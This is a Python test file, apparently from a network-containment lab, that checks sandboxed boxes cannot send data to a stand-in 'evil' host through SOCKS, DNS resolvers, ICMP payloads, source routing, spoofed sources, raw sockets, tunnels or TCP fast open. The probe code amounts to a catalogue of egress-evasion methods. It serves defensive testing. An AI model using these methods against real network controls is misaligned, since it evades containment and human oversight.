"""Corpus section E: tunnels and protocols that are neither TLS nor HTTP."""

from __future__ import annotations

import os

import probes
import world
from world import ALLOWED, EVIL, EVIL_V6, block, datagrams, hello, nothing_reaches, speak

SOCKS = {
    "e95_socks4": b"\x04\x01\x00\x50" + bytes([185, 199, 109, 66]) + b"\0",
    "e95_socks4a": b"\x04\x01\x00\x50\0\0\0\1\0evil.test\0",
    "e95_socks5": b"\x05\x01\x00",
    "e96_socks5_bind": b"\x05\x02\x00\x02",
}


def test_e95_e96_e97_e100_e101_e102_nothing_but_a_permitted_host_is_reached_by_any_protocol(lab, p1):
    protocols = {**SOCKS, "ssh": b"SSH-2.0-x\r\n", "smtp": b"EHLO x\r\n", "git": b"0032git-upload-pack /x\0host=evil.test\0",
                 "postgres": b"\0\0\0\x08\x04\xd2\x16\x2f", "redis": b"*1\r\n$4\r\nPING\r\n", "mysql": b"\0"}
    ports = [1080, 22, 443, 25, 465, 587, 9418, 5432, 3306, 6379, 27017]
    with nothing_reaches(lab, p1):
        assert set(speak(p1, [(EVIL, port, data) for port in ports for data in protocols.values()])) == {"refused"}
        # On the ports of the web there is no other protocol, even to the permitted host.
        assert set(speak(p1, [(ALLOWED, port, data) for port in (80, 443) for data in SOCKS.values()])) == {"reset"}
    # The twin: the permitted host's other services are its own.
    assert speak(p1, [(ALLOWED, 5432, protocols["postgres"]), (ALLOWED, 6379, protocols["redis"]), (ALLOWED, 22, [])]) == [
        "data " + protocols["postgres"].decode("latin-1"), "data " + protocols["redis"].decode(), "data SSH-2.0-lab\r\n"]


def test_e103_e104_other_resolvers_are_not_reached_by_any_protocol(lab, p1):
    with nothing_reaches(lab, p1):
        results = speak(p1, [(address, port, hello(name)) for address in ("8.8.8.8", "1.1.1.1", "9.9.9.9") for port in (443, 853, 53) for name in (b"dns.google", b"cloudflare-dns.com")])
        assert set(results) == {"refused"}
        assert set(datagrams(p1, [(address, port, os.urandom(60)) for address in ("8.8.8.8", "1.1.1.1") for port in (443, 853, 784, 5353, 5355)])) == {"refused"}
    assert world.bind(p1, "dns.google")[0].startswith("198.18.")
    assert speak(p1, [(ALLOWED, 443, hello(b"cloudflare-dns.com")), (ALLOWED, 853, hello(b"dns.google"))]) == ["alert 49"] * 2


def test_e106_no_other_datagrams_pass_whatever_their_port(lab, p1):
    ports = [9, 123, 161, 514, 137, 1900, 3478, 4500, 51820, 1194, 69, 5060]
    with nothing_reaches(lab, p1):
        for target in (EVIL, ALLOWED, EVIL_V6):
            assert set(datagrams(p1, [(target, port, b"canary") for port in ports])) == {"refused"}, target
    for port in ports:
        block(lab, p1, address=EVIL, port=port, protocol="udp")


def test_e106_datagrams_pass_to_an_address_entry(lab, p3):
    assert datagrams(p3, [(ALLOWED, 9, b"canary"), (EVIL, 9, b"canary")]) == ["answer " + b"canary".hex(), "refused"]


_PING = """
def ping(family, target):
    client = socket.socket(family, socket.SOCK_DGRAM, 1 if family == socket.AF_INET else 58)
    client.settimeout(2)
    client.connect((target, 0))
    client.send(struct.pack(">BBHHH", 8 if family == socket.AF_INET else 128, 0, 0, 1, 1) + TOKEN.encode())
    return len(client.recv(200))
"""


def ping(box, *targets: str) -> list[dict]:
    tried = ", ".join(f"outcome(lambda: ping(socket.{'AF_INET6' if ':' in t else 'AF_INET'}, {t!r}))" for t in targets)
    return probes.run(box, f"TOKEN = {probes.canary()!r}\n{_PING}\nsay([{tried}])")


def test_e107_icmp_with_a_payload_is_refused_with_an_event(lab, p1):
    with nothing_reaches(lab, p1):
        assert [result["ok"] for result in ping(p1, EVIL, EVIL_V6, ALLOWED)] == [False] * 3
    block(lab, p1, address=EVIL, protocol="icmp")
    assert ping(p1, "127.0.0.1")[0]["ok"]


def test_e107_icmp_passes_to_an_address_entry_and_nowhere_else(lab, p3):
    results = ping(p3, ALLOWED, EVIL)
    assert [result["ok"] for result in results] == [True, False]


def test_e109_multicast_and_broadcast_are_refused(lab, p1, p0):
    targets = ["224.0.0.1", "239.255.255.250", "224.0.0.251"]
    for box in (p1, p0):
        with nothing_reaches(lab, box):
            assert set(datagrams(box, [(target, port, b"canary") for target in targets for port in (1900, 53)])) == {"refused"}
            result = probes.run(box, """
                def broadcast():
                    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                    client.settimeout(2)
                    client.connect(("255.255.255.255", 9))
                    client.send(b"canary")
                    return client.recv(10).decode()
                say(outcome(broadcast))
                """)
            assert not result["ok"] and result["error"] != "TimeoutError", result


def test_e110_a_datagram_in_fragments_is_judged_as_a_whole(lab, p1, p3):
    large = b"f" * 9000
    with nothing_reaches(lab, p1):
        assert datagrams(p1, [(EVIL, 9, large), (ALLOWED, 9, large)]) == ["refused"] * 2
    assert datagrams(p3, [(ALLOWED, 9, large), (EVIL, 9, large)]) == ["answer " + large[:600].hex(), "refused"]


def test_e112_source_routes_and_foreign_sources_lead_nowhere(lab, p1, p3):
    probe = f"""
    def routed(options, target, source=None, device=None):
        client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        client.settimeout(1)
        if options:
            client.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
        if source:
            client.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND: an address that is nobody's here
            client.bind((source, 0))
        if device:
            client.setsockopt(socket.SOL_SOCKET, 25, device)  # SO_BINDTODEVICE
        client.connect((target, 80))
        client.sendall(b"canary")
        return "connected"
    def spoofed(target, source):
        client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        client.settimeout(1)
        client.setsockopt(socket.IPPROTO_IP, 15, 1)
        client.bind((source, 4000))
        client.connect((target, 9))
        client.send(b"canary")
        return client.recv(10).decode()
    loose = b"\\x83\\x07\\x04" + socket.inet_aton({ALLOWED!r}) + b"\\0"
    strict = b"\\x89\\x07\\x04" + socket.inet_aton({ALLOWED!r}) + b"\\0"
    say([
        outcome(lambda: routed(loose, {EVIL!r})),
        outcome(lambda: routed(strict, {EVIL!r})),
        outcome(lambda: routed(b"", {EVIL!r}, source="8.8.8.8")),
        outcome(lambda: routed(b"", {EVIL!r}, device=b"lo")),
        outcome(lambda: routed(b"", {EVIL!r}, device=b"eth0")),
        outcome(lambda: spoofed({EVIL!r}, "8.8.8.8")),
        outcome(lambda: spoofed({ALLOWED!r}, "8.8.8.8")),
        outcome(lambda: spoofed({ALLOWED!r}, "100.64.0.1")),
        outcome(lambda: spoofed({ALLOWED!r}, "100.80.0.7")),
    ])
    """
    for box in (p1, p3):
        for user in ("user", "root"):
            with nothing_reaches(lab, box):
                results = probes.run(box, probe, user=user)
                assert [result["ok"] for result in results] == [False] * 9, results


def test_e113_no_raw_packet_or_other_family_and_no_device(lab, p3):
    for user in ("user", "root"):
        result = probes.run(p3, """
            def made(*arguments):
                try:
                    socket.socket(*arguments).close()
                    return True
                except (OSError, ValueError):
                    return False
            found = []
            for family in range(1, 46):
                if family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK):
                    continue
                for kind in (1, 2, 3, 5):
                    if made(family, kind, 0):
                        found.append(["family", family, kind])
            for family in (socket.AF_INET, socket.AF_INET6):
                for protocol in range(256):
                    if made(family, socket.SOCK_RAW, protocol):
                        found.append(["raw", family, protocol])
                for kind, protocol in ((1, 132), (5, 132), (2, 136), (6, 33), (1, 262), (2, 115)):
                    if made(family, kind, protocol):
                        found.append(["transport", family, protocol])
            for protocol in range(1, 30):
                if made(socket.AF_NETLINK, socket.SOCK_RAW, protocol):
                    found.append(["netlink", protocol])
            for path in ("/dev/net/tun", "/dev/vhost-net", "/dev/vsock", "/dev/kvm", "/dev/fuse", "/dev/mem", "/dev/kmsg"):
                if os.path.exists(path):
                    found.append(["device", path])
            say(found)
            """, user=user)
        assert result == [], (user, result)


def test_e114_tunnels_under_a_blackout_do_not_even_resolve(lab, p4):
    before = len(lab.sink_lines())
    assert set(datagrams(p4, [(EVIL, port, os.urandom(148)) for port in (51820, 1194, 41641, 3478, 7844, 443)])) == {"refused"}
    assert set(speak(p4, [(EVIL, port, hello(b"x.argotunnel.com")) for port in (443, 9001, 7844, 4443, 8080)])) == {"refused"}
    for name in ("region1.v2.argotunnel.com", "controlplane.tailscale.com", "connect.ngrok-agent.com"):
        assert probes.lookup(p4, name)["value"]["rcode"] == 5
        assert not lab.asked(name)
    assert lab.sink_lines()[before:] == []
    for port in (51820, 7844):
        block(lab, p4, address=EVIL, port=port, protocol="udp")


def test_tcp_fast_open_carries_nothing_to_an_unlisted_host(lab, p1, p3):
    for box in (p1, p3):
        with nothing_reaches(lab, box):
            result = probes.run(box, f"""
                def fast(target):
                    client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    client.settimeout(3)
                    client.sendto(b"canary", 0x20000000, (target, 80))
                    return client.recv(10).decode()
                say([outcome(lambda: fast({EVIL!r})), outcome(lambda: fast("8.8.8.8"))])
                """)
            assert [each["ok"] for each in result] == [False, False]


def test_an_open_policy_with_a_denied_name_carries_nothing_but_tcp_and_icmp(lab, named):
    result = probes.run(named, f"""
        def lite(target):
            client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
            client.settimeout(2)
            client.connect((target, 9))
            client.send(b"canary")
            return client.recv(10).decode()
        say(outcome(lambda: lite({EVIL!r})))
        """)
    assert not result["ok"], result
